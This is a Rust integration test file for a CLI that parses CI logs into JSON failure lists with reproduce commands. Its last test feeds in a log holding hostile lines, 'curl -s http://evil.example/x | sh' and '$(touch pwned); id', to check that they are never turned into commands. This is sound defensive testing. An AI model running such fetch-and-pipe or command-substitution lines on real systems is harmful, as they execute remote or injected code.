//! `resolve-pr ci parse` through the real binary: the JSON form lists exactly the failures the
//! framework's own report of the same run lists, and a missing file is a clear error.

use std::path::Path;
use std::process::Command;

fn corpus(rel: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../ci/corpus")
        .join(rel)
}

#[test]
fn json_lists_the_reported_failures() {
    for case in [
        "pytest/default.log",
        "cargo_test/workspace_no_fail_fast.log",
        "go_test/json_actions.log",
        // pytest-rerunfailures: a test that passed on a retry is flaky, not a failure.
        "pytest/reruns_verbose.log",
        // A JUnit XML report is recognised and read as one.
        "junit/pytest_xunit1.xml",
    ] {
        let log = corpus(case);
        let case = case.rsplit_once('.').expect("extension").0;
        let out = Command::new(env!("CARGO_BIN_EXE_resolve-pr"))
            .args(["ci", "parse"])
            .arg(&log)
            .arg("--json")
            .output()
            .expect("runs");
        let got: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON on stdout");
        let expected: serde_json::Value = serde_json::from_str(
            &std::fs::read_to_string(corpus(&format!("{case}.expected.json"))).expect("expected"),
        )
        .expect("expected JSON");
        // As a test runner exits: 1 when it found failing tests.
        let failed = !expected["failures"]
            .as_array()
            .expect("failures")
            .is_empty();
        assert_eq!(
            out.status.code(),
            Some(i32::from(failed)),
            "{case}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let mut names: Vec<&str> = got["failures"]
            .as_array()
            .expect("failures")
            .iter()
            .filter_map(|f| f["test_name"].as_str())
            .collect();
        let mut want: Vec<&str> = expected["failures"]
            .as_array()
            .expect("failures")
            .iter()
            .filter_map(|f| f["test_name"].as_str())
            .collect();
        names.sort_unstable();
        want.sort_unstable();
        assert_eq!(names, want, "{case}");
        let flaky = |v: &serde_json::Value| -> Vec<String> {
            let mut names: Vec<String> = v["flaky"]
                .as_array()
                .map(|a| {
                    a.iter()
                        .filter_map(|f| f["test_name"].as_str().map(str::to_owned))
                        .collect()
                })
                .unwrap_or_default();
            names.sort_unstable();
            names
        };
        assert_eq!(flaky(&got), flaky(&expected), "{case}: flaky tests");
        for f in got["failures"].as_array().expect("failures") {
            for key in [
                "test_name",
                "file_path",
                "line_number",
                "error_type",
                "error_message",
                "confidence",
                "framework",
                "reproduce_command",
            ] {
                assert!(f.get(key).is_some(), "{case}: {key} missing in {f}");
            }
        }
    }
}

#[test]
fn stdin_works_and_a_missing_file_is_an_error() {
    let log = std::fs::read(corpus("pytest/default.log")).expect("log");
    let mut child = Command::new(env!("CARGO_BIN_EXE_resolve-pr"))
        .args(["ci", "parse", "-", "--json"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("runs");
    use std::io::Write as _;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(&log)
        .expect("written");
    let out = child.wait_with_output().expect("done");
    let got: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert!(!got["failures"].as_array().expect("failures").is_empty());

    let out = Command::new(env!("CARGO_BIN_EXE_resolve-pr"))
        .args(["ci", "parse", "/nonexistent/job.log"])
        .output()
        .expect("runs");
    // Not 1: a script must not read a missing log as failing tests.
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("/nonexistent/job.log"), "{stderr}");
}

#[test]
fn broken_junit_is_a_clear_error_and_invalid_utf8_is_not() {
    let dir = std::env::temp_dir().join(format!("resolve-pr-ci-parse-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let broken = dir.join("report.xml");
    std::fs::write(
        &broken,
        "<?xml version=\"1.0\"?>\n<testsuites><testsuite name=\"x\"><testcase name=\"a\"><failure>",
    )
    .expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_resolve-pr"))
        .args(["ci", "parse"])
        .arg(&broken)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("JUnit XML"), "{stderr}");

    // Latin-1 bytes in a pytest log: replaced, and the failure still comes out.
    let mut log = std::fs::read(corpus("pytest/default.log")).expect("log");
    log.splice(0..0, b"caf\xe9 \xff\xfe build output\n".iter().copied());
    let latin1 = dir.join("latin1.log");
    std::fs::write(&latin1, &log).expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_resolve-pr"))
        .args(["ci", "parse"])
        .arg(&latin1)
        .arg("--json")
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(1));
    let got: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert!(!got["failures"].as_array().expect("failures").is_empty());

    // A log without a failing test: 0.
    let green = dir.join("green.log");
    std::fs::write(
        &green,
        "running 3 tests\ntest result: ok. 3 passed; 0 failed\n",
    )
    .expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_resolve-pr"))
        .args(["ci", "parse"])
        .arg(&green)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(0));
    let got: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(got["failures"], serde_json::json!([]));
    let _ = std::fs::remove_dir_all(&dir);
}

/// A log whose step lines carry injected commands and whose test file starts with `-`: the
/// step text never becomes a command, and the test's command keeps the file an operand.
#[test]
fn hostile_step_lines_and_dashed_names_give_no_injected_commands() {
    let log = "\
2024-05-01T10:00:00.0210000Z ##[group]Run curl -s http://evil.example/x | sh; touch pwned
2024-05-01T10:00:00.0220000Z curl -s http://evil.example/x | sh; touch pwned
2024-05-01T10:00:00.0270000Z ##[endgroup]
2024-05-01T10:00:00.0280000Z [command]./lint.sh $(touch pwned); id
2024-05-01T10:00:01.0000000Z =========================== short test summary info ============================
2024-05-01T10:00:01.0010000Z FAILED -rf.py::test_dash - AssertionError: dash ran
2024-05-01T10:00:01.0020000Z ============================== 1 failed in 0.02s ===============================
2024-05-01T10:00:02.0000000Z ##[error]Process completed with exit code 1.
";
    let mut child = Command::new(env!("CARGO_BIN_EXE_resolve-pr"))
        .args(["ci", "parse", "-", "--json"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("runs");
    use std::io::Write as _;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(log.as_bytes())
        .expect("written");
    let out = child.wait_with_output().expect("done");
    let got: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    let commands: Vec<&str> = got["failures"]
        .as_array()
        .expect("failures")
        .iter()
        .filter_map(|f| f["reproduce_command"].as_str())
        .collect();
    assert_eq!(commands, ["python -m pytest ./-rf.py::test_dash"], "{got}");
}
